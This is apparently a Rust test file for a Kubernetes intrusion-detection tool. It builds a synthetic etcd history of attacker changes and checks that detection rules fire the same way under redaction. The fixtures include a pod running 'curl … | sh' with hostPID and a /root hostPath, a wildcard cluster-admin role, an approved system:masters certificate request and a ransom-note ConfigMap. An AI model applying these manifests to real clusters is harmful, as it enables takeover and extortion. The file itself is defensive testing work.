//! Rules find the same whatever is redacted, and tell nothing that is.

use std::cell::Cell;

use super::*;
use crate::suspects::test::{By, Scope, Shown};

const CANARY: &str = "kanarienvogel";

/// A request for a certificate of `system:masters`, in PEM and base64.
const REQUEST: &str = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIWk1JR0FBZ0VBTUI0eEREQUtCZ05WQkFvTUEyUmxkakVPTUF3R0ExVUVBd3dGWVd4cFkyVXdXVEFUQmdjcQpoa2pPUFFJQkJnZ3Foa2pPUFFNQkJ3TkNBQVI4TmlIYnhqUWE0YS90YjFZd1QwUzd1NE8xOThzWlNjY3hmb0FSCklqejN6RlhVOTFUQm5uUDdsNkRwVlBqbzFQL3FkOVVTU2NTeHFNdDJlMFpLNVNKOW9BQXdDZ1lJS29aSXpqMEUKQXdJRFNBQXdSUUlnQWx6cVYzcGRYUitIMytFZTZKaG90UnVsZGZjL2diNWVwQ0JXbDJVamJSSUNJUUNLT3Y2Lwp5UjNuSkM3VTN3L0lHMlZZNEdySk16M1pIQ1JGaXdzWjU2U0RBZz09Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo=";

/// Changes with free texts in all that rules tell of.
fn intruder() -> Vec<u8> {
    const POD: &str = r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","namespace":"d","creationTimestamp":"@T","ownerReferences":[
        {"apiVersion":"apps/v1","kind":"ReplicaSet","name":"~ of all","uid":"~"}],
        "managedFields":[{"manager":"curl ~","operation":"Update","apiVersion":"v1","time":"@T","fieldsType":"FieldsV1","fieldsV1":{"f:spec":{"f:~":{}}}}]},
        "spec":{"nodeName":"~ node","hostPID":true,"containers":[{"name":"c","image":"~/a:1","args":["curl ~ | sh"]}],
        "volumes":[{"name":"v","hostPath":{"path":"/root/~"}}]},"status":{"phase":"~ phase"}}"#;
    const GONE: &str = r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"q","namespace":"d","creationTimestamp":"@T"},
        "spec":{"nodeName":"~ node","containers":[{"name":"c","image":"a"}]},"status":{"phase":"~ phase"}}"#;
    const DEPLOYMENT: &str = r#"{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"w","namespace":"d","creationTimestamp":"@T"},
        "spec":{"template":{"spec":{"containers":[{"name":"c","image":"~ @N.example/~:1"}]}}}}"#;
    const BINDING: &str = r#"{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"b","creationTimestamp":"@T"},
        "roleRef":{"kind":"ClusterRole","name":"~ admin"},"subjects":[{"kind":"User","name":"~ of all"}]}"#;
    const ROLE: &str = r#"{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"~ admin","creationTimestamp":"@T"},
        "rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]}"#;
    const CSR: &str = r#"{"apiVersion":"certificates.k8s.io/v1","kind":"CertificateSigningRequest","metadata":{"name":"c","creationTimestamp":"@T"},
        "spec":{"signerName":"kubernetes.io/kube-apiserver-client","request":"@R"},"status":{"conditions":[{"type":"Approved","status":"True"}]}}"#;
    const NOTE: &str = r#"{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"other ~","namespace":"~ d","creationTimestamp":"@T"},
        "data":{"~ key":"send bitcoin to ~ @N","password":"hunter2 bc1q"}}"#;
    const THING: &str = r#"{"apiVersion":"x.io/v1","kind":"Thing","metadata":{"name":"~ of all","namespace":"d"},"spec":{"~":"~"}}"#;
    const NAMESPACE: &str = r#"{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"n","creationTimestamp":"@T",
        "labels":{"pod-security.kubernetes.io/enforce":"@L"}}}"#;
    const DNS: &str = r#"{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"coredns","namespace":"kube-system","creationTimestamp":"@T"},
        "data":{"Corefile":"~ @N"}}"#;
    let made = |text: &str, again: bool| {
        let text = text.replace('\n', "").replace('~', CANARY);
        let text = text
            .replace("@T", "2026-01-01T00:00:00Z")
            .replace("@R", REQUEST);
        let (number, level) = if again {
            ("2", "privileged")
        } else {
            ("1", "restricted")
        };
        text.replace("@N", number).replace("@L", level)
    };
    let role = format!("clusterroles/{CANARY} admin");
    let objects = [
        ("pods/d/p", POD, false),
        ("pods/d/q", GONE, false),
        ("deployments/d/w", DEPLOYMENT, false),
        ("deployments/d/w", DEPLOYMENT, true),
        ("clusterrolebindings/b", BINDING, false),
        (role.as_str(), ROLE, false),
        ("certificatesigningrequests/c", CSR, false),
        ("configmaps/d/note", NOTE, false),
        ("configmaps/d/note", NOTE, true),
        ("x.io/things/d/t", THING, false),
        ("namespaces/n", NAMESPACE, false),
        ("namespaces/n", NAMESPACE, true),
        ("configmaps/kube-system/coredns", DNS, false),
        ("configmaps/kube-system/coredns", DNS, true),
    ];
    let objects = objects.map(|(key, text, again)| (format!("/registry/{key}"), made(text, again)));
    let puts = objects.iter().zip(2_u64..);
    let mut changes: Vec<Change<'_>> = puts
        .map(|((key, value), at)| (key.as_str(), at, Some(value.as_str())))
        .collect();
    changes.push(("/registry/pods/d/q", 99, None));
    history(&changes, None)
}

#[test]
fn the_same_is_found_and_told_in_other_words() {
    let file = intruder();
    let (plain, words, _) = judged(&file, None);
    let ids: BTreeSet<&str> = plain.iter().map(|(id, ..)| id.as_str()).collect();
    for id in [
        "raw-client",
        "pod-privileged-alone",
        "pod-host-files",
        "pod-fetches-script",
        "pod-gone-unannounced",
        "image-other-registry",
        "rbac-own-admin",
        "csr-client-approved-person",
        "etcd-key-of-another",
        "ransom-note",
        "pod-security-lowered",
        "dns-changed",
    ] {
        assert!(ids.contains(id), "{id}: {ids:?}");
    }
    let heard = |words: &[String], what: &str| words.iter().any(|word| word.contains(what));
    for what in [CANARY, "hunter2"] {
        assert!(heard(&words, what), "{what}: {words:#?}");
    }
    let [names, strict] = redactors();
    let (found, told, _) = judged(&file, Some(names));
    assert_eq!(found, plain);
    assert!(!heard(&told, "hunter2"), "{told:#?}");
    let (found, told, _) = judged(&file, Some(strict));
    assert_eq!(found, plain);
    // As many words, and none of the file's but names of what is everywhere.
    assert_eq!(told.len(), words.len());
    for what in [CANARY, "hunter2", "alice", "bitcoin"] {
        assert!(!heard(&told, what), "{what}: {told:#?}");
    }
    assert!(heard(&told, "spec.hostPID = true"), "{told:#?}");
}

/// Who set a value later is told by its name as it may be shown.
#[test]
fn managers_of_before_are_told_as_they_may_be_shown() {
    let object = format!(
        "{{apiVersion: v1, kind: ConfigMap, metadata: {{name: coredns, namespace: kube-system, creationTimestamp: '2026-01-01T00:00:00Z', \
         managedFields: [{{manager: {CANARY} one, time: '2026-01-01T00:00:00Z', fieldsV1: {{'f:metadata': {{}}}}}}, \
         {{manager: {CANARY} two, time: '2026-01-02T00:00:00Z', fieldsV1: {{'f:data': {{'f:Corefile': {{}}}}}}}}]}}, data: {{Corefile: x}}}}"
    );
    let plain = documents(object.as_bytes()).unwrap().remove(0);
    let mut redacted = plain.clone();
    Redactor::new(b"salt").strictly().apply(&mut redacted);
    let mut rules = OWN.list().iter();
    let rule = rules.find(|own| own.id == "dns-set-later").unwrap();
    let told = |shown| {
        let scope = Scope {
            before: None,
            after: &plain,
            by: By {
                manager: "",
                orphan: false,
                asked: &Cell::new(false),
            },
            unknown: true,
            quotes: true,
            shown,
        };
        let mut evidence = Vec::new();
        assert!(rule.when.as_ref().unwrap().holds(&scope, &mut evidence));
        evidence.pop().unwrap().value
    };
    assert!(told(None).starts_with(&format!(
        "set by {CANARY} two at 2026-01-02T00:00:00Z, after {CANARY} one"
    )));
    let shown = told(Some(Shown {
        before: None,
        after: &redacted,
        manager: "",
    }));
    assert!(shown.starts_with("set by redacted:"), "{shown}");
    assert!(!shown.contains(CANARY), "{shown}");
}
